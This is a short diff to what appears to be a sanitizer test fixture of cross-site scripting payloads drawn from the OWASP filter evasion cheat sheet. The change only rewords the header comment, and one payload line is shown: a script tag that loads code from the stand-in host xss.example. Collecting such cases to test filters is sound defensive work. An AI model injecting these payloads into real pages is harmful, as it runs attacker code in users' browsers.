@@ -1,7 +1,7 @@
 /**
- * Texts that try to run a script where they are shown. Each calls `alert`, reaches for a foreign host, or smuggles markup
- * through a parser. First the cases of the OWASP XSS filter evasion cheat sheet, in its order, then mutation XSS, foreign
- * markup and what rich text editors are known to have let through.
+ * Texts that try to run a script where they are rendered: each calls `alert`, requests a foreign host, or smuggles
+ * markup through a parser. First the OWASP XSS filter evasion cheat sheet, in its order, then mutation XSS, foreign
+ * markup and known holes of rich text editors.
  */
 const owasp: readonly string[] = [
   '<SCRIPT SRC=https://xss.example/index.js></SCRIPT>',
